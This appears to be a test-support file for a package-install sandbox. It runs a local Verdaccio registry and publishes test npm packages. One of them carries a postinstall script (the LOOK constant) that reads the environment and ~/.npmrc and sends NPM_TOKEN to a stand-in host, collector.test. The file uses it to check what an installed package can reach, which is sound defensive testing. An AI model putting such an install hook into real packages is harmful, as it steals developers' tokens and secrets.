import { spawn } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { join } from 'node:path';
import { onTestFinished } from 'vitest';
import { type Ended, execute, type Place, until } from './sallyport.test-support.ts';
import { TOOLS } from './tools.test-support.ts';

export interface PrivateRegistry {
  readonly port: number;
  /** Opens it; made by the registry itself for one user. */
  readonly token: string;
  /** Tarballs that were handed out since the last look. */
  readonly takeDownloads: () => readonly string[];
  /** Publishes `answer`, which exports a number and looks around when it is installed. */
  readonly publish: (version: string, answer: number) => Promise<void>;
}

const CONFIG = `
storage: ./storage
auth: { htpasswd: { file: ./htpasswd, max_users: 10 } }
packages: { '**': { access: $authenticated, publish: $authenticated } }
log: { type: stdout, format: json, level: http }
`;

/** What a package does that wants to know what it can get: its environment, the user's settings, another host. */
const LOOK = `
const fs = require('fs');
const attempt = (what) => { try { return what(); } catch (error) { return error.code; } };
const seen = { env: process.env, npmrc: attempt(() => fs.readFileSync(process.env.HOME + '/.npmrc', 'utf8')) };
fetch('http://collector.test/?' + process.env.NPM_TOKEN).then((r) => r.status, (e) => String(e.cause)).then((sent) => {
  fs.writeFileSync('seen.json', JSON.stringify({ ...seen, sent }));
});`;

/** Verdaccio on loopback, which takes nothing without a token, and shows nothing unless it is open. */
export async function startRegistry(place: Place, tool: string, isOpen = false): Promise<PrivateRegistry> {
  const folder = join(place.root, 'registry');
  mkdirSync(folder);
  writeFileSync(join(folder, 'config.yaml'), isOpen ? CONFIG.replace('access: $authenticated', 'access: $all') : CONFIG);
  const port = await freePort();
  const log: string[] = [];
  const program = join(tool, TOOLS.verdaccio.program);
  const server = spawn(process.execPath, [program, '--config', 'config.yaml', '--listen', `127.0.0.1:${port}`], {
    cwd: folder,
    env: place.env,
    stdio: ['ignore', 'pipe', 'ignore'],
  });
  server.stdout.setEncoding('utf8').on('data', (text: string) => log.push(text));
  onTestFinished(() => void server.kill('SIGKILL'));
  const base = `http://127.0.0.1:${port}/`;
  await until(
    () =>
      fetch(`${base}-/ping`).then(
        (response) => response.ok,
        () => false,
      ),
    30_000,
  );
  const user = await fetch(`${base}-/user/org.couchdb.user:ci`, {
    method: 'PUT',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ name: 'ci', password: 'made up for this test' }),
  });
  const { token }: { token?: string } = JSON.parse(await user.text());
  if (token === undefined) throw new Error('the registry gave no token');
  return {
    port,
    token,
    takeDownloads: () => {
      const lines = log.splice(0).join('').split('\n');
      // A request has two lines in the log: when its answer begins, and when it ends.
      return [...new Set(lines.flatMap((line) => /"url":"([^"]+\.tgz)".*"status":200/.exec(line)?.[1] ?? []))];
    },
    publish: (version, answer) => publish({ place, folder, base, token }, version, answer),
  };
}

async function publish(
  { place, folder, base, token }: { place: Place; folder: string; base: string; token: string },
  version: string,
  answer: number,
): Promise<void> {
  const source = join(folder, version);
  mkdirSync(source);
  const scripts = { postinstall: 'node look.js' };
  writeFileSync(join(source, 'package.json'), JSON.stringify({ name: 'answer', version, main: 'index.js', scripts }));
  writeFileSync(join(source, 'index.js'), `module.exports = ${answer};\n`);
  writeFileSync(join(source, 'look.js'), LOOK);
  writeFileSync(join(source, '.npmrc'), `registry=${base}\n${base.slice(5)}:_authToken=\${NPM_TOKEN}\n`);
  const { code, stderr } = await execute('npm', ['publish', '--silent'], {
    cwd: source,
    env: { ...place.env, PATH: process.env['PATH'], NPM_TOKEN: token },
  });
  if (code !== 0) throw new Error(`npm publish: ${stderr}`);
}

/** Before any cooldown. */
export const LONG_AGO = '2020-01-02T03:04:05.000Z';

export interface PublishedPackage {
  readonly name: string;
  readonly scripts?: Readonly<Record<string, string>>;
  readonly isFresh?: boolean;
  readonly dependencies?: Readonly<Record<string, string>>;
}

/** Publishes a package; unless it is fresh, the registry says that it did long ago. */
export async function publishPackage(
  place: Place,
  { port, token }: PrivateRegistry,
  { name, scripts = {}, isFresh, dependencies = {} }: PublishedPackage,
): Promise<void> {
  const source = join(place.root, `source-${name}`);
  mkdirSync(source);
  writeFileSync(
    join(source, 'package.json'),
    JSON.stringify({ name, version: '1.0.0', main: 'index.js', scripts, dependencies }),
  );
  writeFileSync(join(source, 'index.js'), 'module.exports = 42;\n');
  writeFileSync(join(source, '.npmrc'), `registry=http://127.0.0.1:${port}/\n//127.0.0.1:${port}/:_authToken=${token}\n`);
  const { code, stderr } = await execute('npm', ['publish', '--silent'], {
    cwd: source,
    env: { ...place.env, PATH: process.env['PATH'] ?? '' },
  });
  if (code !== 0) throw new Error(`npm publish: ${stderr}`);
  if (isFresh === true) return;
  const record = join(place.root, 'registry/storage', name, 'package.json');
  const document = JSON.parse(readFileSync(record, 'utf8'));
  document.time = { modified: LONG_AGO, created: LONG_AGO, '1.0.0': LONG_AGO };
  writeFileSync(record, JSON.stringify(document));
}

function freePort(): Promise<number> {
  const server = createServer();
  return new Promise((resolve) => {
    server.listen(0, '127.0.0.1', () => {
      const address = server.address();
      server.close(() => resolve(typeof address === 'object' && address !== null ? address.port : 0));
    });
  });
}

/** What the installed package saw; undefined where its script did not run. */
export function seenByPackage(place: Place): Readonly<Record<string, unknown>> | undefined {
  const path = join(place.workspace, 'node_modules/answer/seen.json');
  return existsSync(path) ? JSON.parse(readFileSync(path, 'utf8')) : undefined;
}

/** A package manager outside any cage, with the real token: how a person makes a lockfile. */
export async function onHost(place: Place, argv: readonly string[], env: Readonly<Record<string, string>>): Promise<Ended> {
  const [program = '', ...args] = argv;
  const ended = await execute(program, args, { cwd: place.workspace, env });
  if (ended.code !== 0) throw new Error(`${argv.join(' ')}: ${ended.stdout}${ended.stderr}`);
  return ended;
}
